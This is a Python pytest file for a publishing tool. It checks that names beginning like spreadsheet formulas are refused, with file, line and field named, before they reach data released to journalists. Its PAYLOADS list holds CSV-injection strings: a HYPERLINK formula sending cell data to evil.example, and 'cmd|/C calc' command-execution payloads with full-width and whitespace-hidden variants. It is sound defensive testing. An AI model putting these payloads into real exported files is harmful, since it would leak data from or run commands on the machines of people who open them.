"""Spreadsheet formulas in the data for journalists (OWASP's "CSV injection"): a name that
begins as a formula does (=, +, -, @, their full-width forms, or spaces, a tab or a line
break before one) is refused where an editor types it, naming file, line and field; and
the build stops rather than write such a cell that came another way. Published data are
never altered, and the last good ones stay."""

import json
import shutil
import zipfile

import pytest

from briefs.cli import main
from briefs.project import Project

from briefs.errors import ContentError
from briefs.publish.data_package import refuse_formulas
from conftest import edition, refusal, run_snakemake

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example/?"&A1,"click")',  # full-width: Excel in Japanese
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
    "\t=1+1",  # a tab or a line break first hides the sign from a check of the first one
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\tKeeper One",  # a tab first, for nothing but to hide what follows
]
# Names with the signs elsewhere than first: a spreadsheet reads them as text.
HARMLESS = ["Anna-Maria O'Brien", "Keeper =One", "Asel @ Harbour", "Жанна Ли-Ким",
            "2-й район", "Keeper One (+7 727 000 00 00)"]
# Where an editor types a text that begins a cell: (file, old line, new line with {}, line,
# field as the error names it).
PLACES = {
    "case name": ("cases/keeper-one.yaml", "name: {en: Keeper One,", "name: {en: {},",
                  2, "name.en"),
    "case name in Russian": ("cases/keeper-one.yaml", "ru: Смотритель Один}",
                             "ru: {}}", 2, "name.ru"),
    "region": ("regions.yaml", "name: {en: North Province,", "name: {en: {},", 2,
               "north.name.en"),
    "affiliation": ("affiliations.yaml", "name: {en: Lamp Movement}",
                    "name: {en: {}}", 4, "lamp-movement.name.en"),
    "legal code's short name": ("legal/criminal-code.yaml", "short: {en: CC, ru: УК}",
                                "short: {en: CC, ru: {}}", 2, "short.ru"),
}


def plant(project, place, value):
    """value (YAML-quoted as JSON is) in place of the text at one of PLACES."""
    name, old, new, *_ = PLACES[place]
    path = project.content / name
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new.replace("{}", json.dumps(value, ensure_ascii=False))),
                    encoding="utf-8")


# Every payload where a case's name is typed; the other places share the rule, so three
# payloads each (a sign, a full-width sign, a sign behind a space) show they are checked.
WHERE_TYPED = ([("case name", payload) for payload in PAYLOADS]
               + [(place, payload) for place in list(PLACES)[1:]
                  for payload in (PAYLOADS[0], PAYLOADS[8], PAYLOADS[15])])


@pytest.mark.parametrize("place, payload", WHERE_TYPED)
def test_a_name_that_begins_as_a_formula_is_refused_where_it_is_typed(
        project, capsys, payload, place):
    plant(project, place, payload)
    err = refusal(project, capsys, "check")
    name, _, _, line, field = PLACES[place]
    assert f"content/{name}, line {line}, field '{field}': " in err, err
    assert "as a spreadsheet formula does" in err
    assert "What to do: a name never begins with =, +, - or @" in err
    assert payload.strip() not in err  # nor is the formula printed back


@pytest.mark.parametrize("name", HARMLESS)
def test_names_with_the_signs_elsewhere_are_accepted(project, capsys, name):
    for place in PLACES:
        plant(project, place, name)
    assert main(["--root", str(project.root), "check"]) == 0, capsys.readouterr().err


def copy_of(project, folder):
    shutil.copytree(project.root, folder, ignore=shutil.ignore_patterns(".cache"))
    return Project(folder)


def published(build):
    """{where: bytes} of every file under build, and of every member of its press kits."""
    files = {}
    for path in sorted(build.rglob("*")):
        if path.is_file():
            files[path.relative_to(build).as_posix()] = path.read_bytes()
            if path.suffix == ".zip":
                with zipfile.ZipFile(path) as kit:
                    files.update({f"{path.name}:{member}": kit.read(member)
                                  for member in kit.namelist()})
    return files


def data_and_kits(files):
    return {where: data for where, data in files.items()
            if "/data/" in where or where.endswith("-press-kit.zip")}


@pytest.mark.parametrize("place, payload", [
    ("case name", PAYLOADS[0]), ("case name in Russian", PAYLOADS[1]),
    ("region", PAYLOADS[7]), ("legal code's short name", PAYLOADS[10])])
def test_a_planted_formula_stops_the_build_and_the_last_good_data_remain(
        built, tmp_path, place, payload):
    project = copy_of(built, tmp_path / "project")
    before = published(project.root / "build")
    plant(project, place, payload)
    result = run_snakemake(project)
    assert result.returncode != 0
    name, _, _, line, field = PLACES[place]
    assert f"content/{name}, line {line}, field '{field}': " in result.stderr, result.stderr
    assert "What to do: a name never begins with =, +, - or @" in result.stderr
    after = published(project.root / "build")
    assert data_and_kits(after) == data_and_kits(before)
    formula = payload.strip().encode()
    assert not [where for where, data in after.items() if formula in data]


@pytest.mark.parametrize("payload, sign", [("=1+1", "'='"), ("-2+3", "'-'"),
                                           ("@SUM(1+1)", "'@'"), ("\t+1+1", "a tab")])
def test_a_formula_that_came_another_way_is_refused_by_the_writer(project, payload, sign):
    """Every value an editor types is checked where it is typed, and the build's site_url
    where it is given (tests/test_settings.py); the writer's own check stands behind them
    for a column that may come another way."""
    column = edition(project, "test-column", "kk")
    rows = [{"id": "keeper-three", "name": "Keeper Three", "sources": payload}]
    with pytest.raises(ContentError) as refused:
        refuse_formulas(column, rows)
    assert str(refused.value).startswith(
        f"{project.content / 'cases' / 'keeper-three.yaml'}: the data for journalists of "
        "test-column (kk) would hold, in its column 'sources' for this record, a value "
        f"beginning with {sign}, which a spreadsheet runs as a formula"), str(refused.value)
